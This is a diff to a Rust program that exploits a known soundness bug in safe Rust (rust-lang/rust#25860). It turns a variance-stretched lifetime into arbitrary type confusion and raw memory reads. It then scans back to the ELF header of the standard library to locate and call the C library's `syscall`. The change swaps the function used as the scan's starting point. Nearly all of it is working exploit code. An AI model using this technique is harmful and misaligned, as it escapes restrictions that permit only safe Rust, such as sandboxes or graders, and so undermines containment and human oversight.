@@ -1,6 +1,6 @@
 //! A known hole of safe Rust (rust-lang/rust#25860): a lifetime is stretched by variance, an
 //! enum is read as its other variant, and any value becomes any other. From there on: the
-//! program's own tables in memory, the address of the C library's `syscall`, and a call of it.
+//! standard library's tables in memory, the address of the C library's `syscall`, and a call of it.
 
 use std::hint::black_box;
 
@@ -45,9 +45,10 @@ fn half(at: usize) -> usize {
     u32::from_le_bytes(memory(at, 4).try_into().unwrap()) as usize
 }
 
-/// Where this program lies in memory.
+/// Where the standard library lies in memory, which calls the C library.
 fn base() -> usize {
-    let mut page = (run as fn() -> String) as usize & !4095;
+    type Function = fn() -> std::io::Result<std::path::PathBuf>;
+    let mut page = (std::env::current_dir as Function) as usize & !4095;
     while memory(page, 4) != b"\x7fELF" {
         page -= 4096;
     }
